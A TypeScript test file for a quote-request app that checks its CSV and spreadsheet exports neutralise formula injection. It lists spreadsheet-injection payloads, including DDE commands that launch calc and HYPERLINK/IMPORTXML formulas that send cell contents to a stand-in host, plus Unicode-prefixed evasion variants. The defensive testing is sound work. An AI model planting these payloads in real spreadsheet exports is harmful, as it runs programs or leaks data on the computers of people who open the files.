import { describe, expect, test } from "vitest"
import { childAgeOptions, quoteOptions } from "#domain/quotes/quote-options.ts"
import { type Engine, createTestServices, engines } from "#test/create-test-app.ts"
import { sendQuote } from "#test/fixtures/request-samples.ts"
import { records } from "#test/fixtures/read-csv.ts"
import { workbook } from "#test/fixtures/read-workbook.ts"
import { exported } from "#test/fixtures/exported-requests.ts"
import { csvLine, escapeFormula } from "#platform/sheets/csv.ts"

/** Known attacks that run a program or fetch an address on the computer of the person who opens the sheet. */
const formulas = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example/?d="&A1;"clique")',
  '=IMPORTXML(CONCAT("http://x.example",A1),"//a")',
  "+1+1",
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "  =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "﹦1",
  "﹢1",
  "\u22121+1",
  "\u3000＝1",
  '="a;b"',
  '";=1+1;"',
  "%0A-3+3+cmd|' /C calc'!D2",
]

test("words of ours are never changed, whatever they begin with", () => {
  // In a visitor's column these would get an apostrophe, so our own columns are marked as trusted.
  const ours = [...Object.values(quoteOptions).flat(), ...childAgeOptions]
  expect(ours.filter((option) => escapeFormula(option) !== option)).toEqual([
    "+ de 1 ano",
    "+ ou – (2 dias)",
    "+ ou – (1 semana)",
    "+ ou – (1 mês)",
  ])
  expect(csvLine(ours.slice(0, 2))).toBe("Indicação;Site de Busca (Google)\r\n")
})

describe.each(engines)("an export with formulas on %s", (engine: Engine) => {
  test("lets no word of a visitor be a formula: an apostrophe in CSV, a text cell in a workbook", async () => {
    await using app = await createTestServices(engine, { content: "demo" })
    for (const [index, formula] of formulas.entries())
      await sendQuote(app.services, {
        name: `${formula} x`,
        observation: formula,
        cellphone: `(41) 9${String(index).padStart(8, "0")}`,
      })
    const lines = records(await exported(app, "csv", { kind: "orcamento" }))
    expect(lines).toHaveLength(formulas.length)
    for (const cell of lines.flatMap((line) => [line.Nome, line.Observações]))
      expect(cell).not.toMatch(/^[\s\p{C}]*[=+\-@＝＋－＠﹦﹢\u2212]/u)
    const { sheets, text } = workbook(await exported(app, "xlsx", { kind: "orcamento" }))
    expect(text).not.toContain("<f>")
    const stored = (
      await app.db
        .selectFrom("quote_request")
        .select("name")
        .orderBy("created_at", "desc")
        .orderBy("protocol", "desc")
        .execute()
    ).map(({ name }) => name)
    expect(sheets[0]?.map((row) => row.Nome)).toEqual(stored)
  })
})
